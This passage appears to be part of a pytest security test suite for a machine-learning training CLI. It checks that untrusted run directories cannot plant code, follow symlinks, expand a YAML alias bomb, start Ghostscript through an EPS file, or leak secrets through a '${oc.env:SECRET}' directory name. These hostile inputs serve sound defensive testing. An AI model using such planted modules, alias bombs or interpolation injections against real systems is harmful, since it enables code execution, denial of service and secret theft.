    (tmp_path / "gift" / package / "__init__.py").write_text("open('pwned', 'w')")
    (tmp_path / "gift/multirun.yaml").write_text("hydra: {}\nsweep_resume: null\n")
    sweep = ("-m", *TINY, "trainer.max_epochs=1", "logger=none", "seed=1,2")
    answer = shell(*sweep, f"hydra/launcher={launcher}", "sweep_resume=.", cwd=tmp_path / "gift")
    assert answer.returncode == 0, answer.stderr
    assert not list(tmp_path.rglob("pwned"))
    if package == "submitit":
        (folder,) = (tmp_path / "gift/.submitit").iterdir()
        assert re.fullmatch(r"[0-9a-f]{16}", folder.name)


def test_imports_read_nothing_in_the_working_directory(tmp_path: Path) -> None:
    """It may be a run from anyone. Matplotlib reads its settings there, and torch finds a libcuda.so.1."""
    (tmp_path / "gift").mkdir()
    (tmp_path / "gift/matplotlibrc").write_text("text.usetex: True\n")
    (tmp_path / "path").mkdir()
    (tmp_path / "path/torch.py").write_text("import os\nfolder = os.getcwd()\n")
    code = """import cli.main, torch, matplotlib, os
print(torch.folder, os.getcwd(), matplotlib.rcParams["text.usetex"])"""
    environment = os.environ | {"PYTHONPATH": os.pathsep.join([str(tmp_path / "path"), str(PROJECT)])}
    command = [sys.executable, "-P", "-c", code]
    answer = subprocess.run(command, cwd=tmp_path / "gift", env=environment, capture_output=True, text=True, check=True)
    assert answer.stdout.split() == [str(PROJECT / "conf"), str(tmp_path / "gift"), "False"]


def test_atomic_write_does_not_follow_an_existing_link(tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("mine\n")
    (tmp_path / f".result.json.{os.getpid()}.tmp").symlink_to("mine")
    with atomic_write(tmp_path / "result.json") as temporary:
        temporary.write_text("ours\n")
    assert (tmp_path / "mine").read_text() == "mine\n"
    assert (tmp_path / "result.json").read_text() == "ours\n"


def test_picture_of_a_run_is_read_as_png_only(tmp_path: Path) -> None:
    """For PostScript Pillow starts Ghostscript."""
    Image.new("RGB", (8, 8)).save(tmp_path / "picture.png")
    assert read_image(tmp_path / "picture.png").size == (8, 8)
    Image.new("RGB", (8, 8)).save(tmp_path / "picture.png", "EPS")
    with pytest.raises(ValueError, match=r"picture.png is not a PNG image"):
        read_image(tmp_path / "picture.png")


def test_rows_of_a_run_hold_numbers_and_words(tmp_path: Path) -> None:
    file = tmp_path / "metrics.csv"
    file.write_text(f"epoch,loss,text,empty\n1,nan,{'[' * 100_000},\n2,0.5,[1],\n")
    first, second = read_rows(file)
    assert first["epoch"] == 1 and first["loss"] != first["loss"] and first["text"] == "[" * 100_000
    assert second == {"epoch": 2, "loss": 0.5, "text": "[1]"}


def test_yaml_with_aliases_is_not_read(tmp_path: Path) -> None:
    """Ten lines of them stand for billions of values."""
    file = tmp_path / "config.yaml"
    file.write_text("a: [1, x]\nb: {c: null}\n")
    assert read_yaml(file) == {"a": [1, "x"], "b": {"c": None}}
    lists = "".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 12))
    file.write_text(f"l0: &l0 [x]\n{lists}")
    assert read_yaml(file) == {}


def test_stored_target_of_any_type_is_looked_up() -> None:
    config = {"model": {"_target_": ["a"]}, "data": [{"_target_": {}}]}
    upgrade_checkpoint({"config": config})
    assert config["model"]["_target_"] == ["a"] and config["data"] == [{"_target_": {}}]


def test_run_that_names_a_sweep_is_resumed_as_a_run(untrusted: Path) -> None:
    file = Path("outputs/untrusted/config.yaml")
    config = yaml.safe_load(file.read_text())
    config["choices"] |= {"sweep": "mnist_lr", "debug": "lr"}
    file.write_text(yaml.safe_dump(config))
    options, arguments = stored_choices(["resume=outputs/untrusted"])
    assert options and not any(option.startswith(("sweep=", "debug=")) for option in options)
    assert arguments == ["resume=outputs/untrusted"]


@pytest.mark.parametrize("resume", ["last.ckpt", "sub", "."])
def test_outputs_that_came_with_a_run_is_no_link(resume: str, untrusted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Event files would be written, and ``last`` replaced, in a directory that nobody has named."""
    gift = untrusted / "gift"
    shutil.copytree("outputs/untrusted", gift if resume == "." else gift / "sub")
    shutil.copy("outputs/untrusted/checkpoints/last.ckpt", gift)
    Path("home").mkdir()
    (gift / "outputs").symlink_to("../home")
    monkeypatch.chdir(gift)
    with pytest.raises(ValueError, match=r"outputs is refused: it is a link to ../home"):
        new_or_resumed_run_dir(resume, "x")


def test_outputs_may_be_a_link_of_the_user(untrusted: Path) -> None:
    shutil.move("outputs", "disk")
    Path("outputs").symlink_to("disk")
    assert new_or_resumed_run_dir("outputs/untrusted", "x") == str(untrusted / "disk/untrusted")
    shutil.move("disk/untrusted", untrusted.parent / "gift")
    assert new_or_resumed_run_dir("../gift", "x") == str(untrusted.parent / "gift")


@pytest.mark.parametrize("where", ["working directory", "run", "link to a run", "data root"])
def test_directory_name_is_never_evaluated(where: str, shell, untrusted: Path) -> None:
    evil = untrusted / "${oc.env:SECRET}"
    environment = {"SECRET": SECRET}
    if where == "working directory":
        evil.mkdir()
        answer = shell(*TINY, "trainer.max_epochs=1", cwd=evil, **environment)
    elif where == "data root":
        answer = shell(*TINY, "trainer.max_epochs=1", cwd=untrusted, **environment | {"DATA_ROOT": str(evil)})
    else:
        Path("outputs/untrusted").rename(evil)
        Path("link").symlink_to(evil.name)
        name = "link" if where == "link to a run" else r"\${oc.env:SECRET}"
        answer = shell(f"resume={name}", "trainer.max_epochs=2", cwd=untrusted, **environment)
    assert answer.returncode == 1
    assert answer.stderr.startswith("error: ") and len(answer.stderr.splitlines()) == 1
    assert SECRET not in answer.stdout + answer.stderr
    assert not any(SECRET in str(path) for path in untrusted.rglob("*"))
